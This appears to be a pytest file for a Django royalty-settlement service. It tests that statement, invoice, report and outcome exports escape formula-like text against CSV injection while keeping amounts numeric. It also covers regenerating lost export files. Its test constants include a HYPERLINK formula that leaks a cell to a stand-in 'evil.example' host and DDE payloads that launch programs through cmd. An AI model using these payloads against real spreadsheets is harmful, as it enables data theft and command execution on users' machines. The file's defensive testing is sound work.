"""Exports are safe to open: text another party chose never runs as a spreadsheet formula (OWASP CSV
injection), while amounts stay numbers, negative ones included.

A lab names its manifest and model like formulas and a holder titles a work like one; the holder's statement,
the lab's invoice, the staff reports and the outcome files carry that text as inert text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.test import Client
from openpyxl import load_workbook

from compensation.documents import exports
from compensation.documents.exports import Row, RowKind
from compensation.models import Export, ExportStatus, Invoice, Statement
from core import spreadsheets
from registry.models import Work
from tests.compensation.helpers import BOOK, REFUSED, manifest_body
from tests.factories import RefusalFactory, WorkFactory
from tests.helpers import seoul, streamed

pytestmark = pytest.mark.django_db


MANIFEST_ID = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
MODEL = "@SUM(1+1)*cmd|' /C calc'!A0"
MODEL_VERSION = "-2+3"
TITLE = "+cmd|' /C notepad'!A0"


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_inert_csv(content: bytes, *texts: str) -> None:
    """Each text appears only with a leading apostrophe, inside a quoted field, and no cell starts a formula."""
    cells = [cell for row in csv_cells(content) for cell in row]
    for text in texts:
        assert "'" + text in cells, text
        assert text not in cells, text
        raw = '"' + ("'" + text).replace('"', '""') + '"'
        assert raw in content.decode("utf-8-sig"), text
    for cell in cells:
        if cell[:1] in ("=", "+", "@", "\t", "\r") or cell.lstrip()[:1] in ("=", "+", "@"):
            pytest.fail(f"a cell starts like a formula: {cell!r}")


def assert_inert_xlsx(content: bytes, *texts: str) -> None:
    """Each text is a string cell marked as text (quote prefix); no cell of the sheet is a formula."""
    cells = xlsx_cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    by_value = {cell.value: cell for cell in cells}
    for text in texts:
        cell = by_value[text]
        assert cell.data_type == "s", text
        assert cell.quotePrefix, text


@pytest.fixture
def hostile(clock, world, settle, lab_api, holder, staff, django_capture_on_commit_callbacks) -> dict[str, Any]:
    """September: the lab reports uses under a formula-like manifest id and model, of a work whose owner gave
    it a formula-like title, one of them refused (so the title is on the lab's invoice); October: settled."""
    refused = WorkFactory(holder=holder, identifiers=[("isbn", REFUSED)], verified_by=staff)
    Work.objects.filter(pk__in=[refused.pk, world["book"].pk]).update(title=TITLE)
    RefusalFactory(work=refused)
    clock(seoul(2026, 9, 10, 12))
    used_at = seoul(2026, 9, 10, 11).isoformat()
    lines = [
        {"scheme": "isbn", "value": value, "units": "5000001", "unit": "token", "used_at": used_at}
        for value in (BOOK, REFUSED)
    ]
    body = manifest_body(lines, manifest_id=MANIFEST_ID, model=MODEL, model_version=MODEL_VERSION)
    with django_capture_on_commit_callbacks(execute=True):
        response = lab_api.post("/api/v1/usage-manifests", body, format="json")
    assert response.status_code == 202, response.content
    clock(seoul(2026, 10, 3, 9))
    settled = settle("2026-09-01", "2026-09-30")
    return {
        "statement": Statement.objects.get(settlement_id=settled["id"], holder=holder),
        "invoice": Invoice.objects.get(settlement_id=settled["id"]),
    }


def export(client: Any, url: str, fmt: str) -> bytes:
    response = client.get(f"{url}/export?format={fmt}", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200, response.content[:300]
    return bytes(response.content)


def test_a_labs_manifest_id_and_model_are_inert_text_in_a_holders_statement(hostile, holder_api):
    url = f"/api/v1/statements/{hostile['statement'].pk}"
    content = export(holder_api, url, "csv")
    assert_inert_csv(content, MANIFEST_ID, TITLE)
    assert_inert_xlsx(export(holder_api, url, "xlsx"), MANIFEST_ID, TITLE)
    # The amounts are still bare numbers that a spreadsheet sums.
    assert ",2500.0005\r\n" in content.decode("utf-8-sig")


def test_a_holders_work_title_is_inert_text_in_a_labs_invoice(hostile, lab_api):
    url = f"/api/v1/invoices/{hostile['invoice'].pk}"
    content = export(lab_api, url, "csv")
    assert_inert_csv(content, TITLE, MANIFEST_ID, MODEL, MODEL_VERSION)
    assert_inert_xlsx(export(lab_api, url, "xlsx"), TITLE, MANIFEST_ID, MODEL, MODEL_VERSION)


def test_the_portal_downloads_are_the_same_inert_files(hostile, owner, lab):
    holder_client, lab_client = Client(), Client()
    holder_client.force_login(owner)
    lab_client.force_login(lab.memberships.get().user)
    statement = holder_client.get(f"/dashboard/statement/{hostile['statement'].pk}/download?format=csv")
    assert statement.status_code == 200
    assert_inert_csv(statement.content, MANIFEST_ID)
    invoice = lab_client.get(f"/dashboard/invoice/{hostile['invoice'].pk}/download?format=xlsx")
    assert invoice.status_code == 200
    assert_inert_xlsx(invoice.content, TITLE, MODEL)


def test_a_staff_report_lists_a_formula_like_title_as_text(hostile, staff):
    staff_client = Client()
    staff_client.force_login(staff)
    response = staff_client.get("/admin/compensation/reports/top/?first=2026-09-01&last=2026-09-30&format=csv")
    assert response.status_code == 200
    assert_inert_csv(response.content, TITLE)
    response = staff_client.get("/admin/compensation/reports/top/?first=2026-09-01&last=2026-09-30&format=xlsx")
    assert_inert_xlsx(response.content, TITLE)


def test_identifiers_are_inert_text_in_outcome_files_from_the_api_and_the_portal(
    lab_api, lab, django_capture_on_commit_callbacks
):
    used_at = "2026-01-01T00:00:00+09:00"
    hostile_values = ["=1+2", "@SUM(A1:A9)", "-3+4"]
    lines = [{"scheme": "isbn", "value": v, "units": "1", "unit": "token", "used_at": used_at} for v in hostile_values]
    lines.append({"scheme": "=evil()", "value": "x", "units": "1", "unit": "token", "used_at": used_at})
    with django_capture_on_commit_callbacks(execute=True):
        response = lab_api.post(
            "/api/v1/usage-manifests", manifest_body(lines, manifest_id="=run()", model=MODEL), format="json"
        )
    assert response.status_code == 202, response.content
    url = response.json()["url"]
    from_api = lab_api.get(f"{url}/outcomes?format=csv")
    assert from_api.status_code == 200
    content = b"".join(from_api.streaming_content)
    assert_inert_csv(content, *hostile_values, "=evil()")
    lab_client = Client()
    lab_client.force_login(lab.memberships.get().user)
    from_portal = lab_client.get(f"/dashboard/manifests/{response.json()['id']}/outcomes")
    assert streamed(from_portal) == content
    # The line numbers are numbers, unquoted.
    assert "\r\n1," in content.decode()


class _Sample(exports.Exporter):
    slug = "sample"

    def rows(self) -> Iterator[Row]:
        yield Row(RowKind.COLUMNS, ("Memo", "Amount", "Lines", "Day"))
        yield Row(RowKind.DATA, ("-1000 refund", Decimal("-1000"), -5, date(2026, 12, 1)))
        yield Row(RowKind.DATA, ("\u3000@attack", Decimal("-0.000001"), 0, None))
        yield Row(RowKind.DATA, ("#N/A", Decimal("2500.0005"), 3, None))
        yield Row(RowKind.DATA, ("\t=1+1", Decimal("1E+3"), 1, None))


def test_negative_amounts_stay_numbers_while_text_is_neutralised():
    content = exports.render_bytes(_Sample(), "csv").decode("utf-8-sig")
    assert content.splitlines() == [
        '"Memo","Amount","Lines","Day"',
        '"\'-1000 refund",-1000,-5,"2026-12-01"',
        '"\'\u3000@attack",-0.000001,0,""',
        '"#N/A",2500.0005,3,""',
        '"\'\t=1+1",1000,1,""',
    ]
    cells = xlsx_cells(exports.render_bytes(_Sample(), "xlsx"))
    values = {cell.coordinate: cell for cell in cells}
    assert (values["B2"].value, values["B2"].data_type) == (-1000, "n")
    assert (values["C2"].value, values["C2"].data_type) == (-5, "n")
    assert values["B3"].value == pytest.approx(-0.000001)
    assert (values["A2"].value, values["A2"].data_type, values["A2"].quotePrefix) == ("-1000 refund", "s", True)
    # Not a formula, nor an error value: the text as written.
    assert (values["A4"].value, values["A4"].data_type) == ("#N/A", "s")
    assert (values["A5"].value, values["A5"].data_type, values["A5"].quotePrefix) == ("\t=1+1", "s", True)


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        ("=1+1", True),
        ("+1", True),
        ("-1", True),
        ("@SUM(A1)", True),
        ("\t1", True),
        ("\r1", True),
        ("\n=1", True),
        ("\x001", True),
        ("   =1", True),
        ("\u3000+1", True),
        ("1=1", False),
        ("Hangang Press", False),
        ("", False),
        ("   ", False),
        ("9788936434021", False),
    ],
)
def test_formula_like_text_follows_owasp(text, risky):
    assert spreadsheets.formula_like(text) is risky
    assert spreadsheets.text_cell(text) == ("'" + text if risky else text)


# --- An export whose file storage lost ------------------------------------------------------------


def _lose_the_file(export: Export) -> None:
    assert export.file.name
    default_storage.delete(export.file.name)
    assert not default_storage.exists(export.file.name)


def test_an_export_whose_file_is_lost_is_made_again_instead_of_a_500(
    hostile, holder_api, settings, django_capture_on_commit_callbacks
):
    settings.EXPORT_SYNC_MAX_LINES = 0
    statement = hostile["statement"]
    with django_capture_on_commit_callbacks(execute=True):
        queued = holder_api.get(f"/api/v1/statements/{statement.pk}/export?format=csv", HTTP_ACCEPT_LANGUAGE="en")
    assert queued.status_code == 202, queued.content
    export = Export.objects.get()
    assert export.status == ExportStatus.DONE
    first = b"".join(holder_api.get(f"/api/v1/exports/{export.pk}/file").streaming_content)
    _lose_the_file(export)

    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        lost = holder_api.get(f"/api/v1/exports/{export.pk}/file")
    # Accepted: the export is waiting again, to be polled as the first time.
    assert lost.status_code == 202, lost.content
    assert lost["Location"] == f"/api/v1/exports/{export.pk}"
    assert (lost.json()["status"], lost.json()["download"]) == ("pending", None)
    assert Export.objects.get().status == ExportStatus.PENDING
    assert holder_api.get(f"/api/v1/exports/{export.pk}/file").status_code == 404  # not ready yet
    for callback in callbacks:
        callback()

    export.refresh_from_db()
    assert export.status == ExportStatus.DONE
    assert Export.objects.count() == 1
    again = holder_api.get(f"/api/v1/exports/{export.pk}/file")
    assert again.status_code == 200
    assert b"".join(again.streaming_content).split(b"\r\n")[2:] == first.split(b"\r\n")[2:]


def test_the_portal_prepares_a_lost_file_again_and_leads_to_it(
    hostile, owner, settings, django_capture_on_commit_callbacks
):
    settings.EXPORT_SYNC_MAX_LINES = 0
    settings.LANGUAGE_CODE = "en"
    client = Client()
    client.force_login(owner)
    statement = hostile["statement"]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(f"/dashboard/statement/{statement.pk}/download", {"format": "xlsx"})
    assert response.status_code == 302
    export = Export.objects.get()
    _lose_the_file(export)

    with django_capture_on_commit_callbacks(execute=True):
        lost = client.get(f"/dashboard/exports/{export.pk}/file")
    assert lost.status_code == 302
    assert lost["Location"] == f"/dashboard/exports/{export.pk}/"
    page = client.get(lost["Location"])
    assert "being prepared again" in page.content.decode()
    export.refresh_from_db()
    assert export.status == ExportStatus.DONE
    file_response = client.get(f"/dashboard/exports/{export.pk}/file")
    assert file_response.status_code == 200
    assert_inert_xlsx(streamed(file_response), MANIFEST_ID)
